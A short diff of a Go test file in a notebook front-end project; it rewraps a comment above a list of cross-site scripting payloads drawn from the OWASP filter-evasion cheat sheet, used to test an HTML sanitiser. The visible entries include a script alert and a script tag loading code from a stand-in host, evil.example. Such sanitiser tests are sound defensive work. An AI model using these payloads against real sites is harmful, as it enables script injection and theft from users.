@@ -14,9 +14,9 @@ import (
 	"github.com/gonb-cope/gonb-cope/internal/front/jupyter/notebook"
 )
 
-// attacks would run something, load something, or break out, in a browser that got
-// them as they are. Most are of the OWASP cheat sheet on filter evasion, and of the
-// known ways to confuse sanitisers by a change of name space.
+// attacks would run something, load something, or break out, in a browser that got them unchanged.
+// Most are of the OWASP cheat sheet on filter evasion, and of the known ways to confuse sanitisers
+// by a change of name space.
 var attacks = []string{
 	`<script>alert(1)</script>`,
 	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
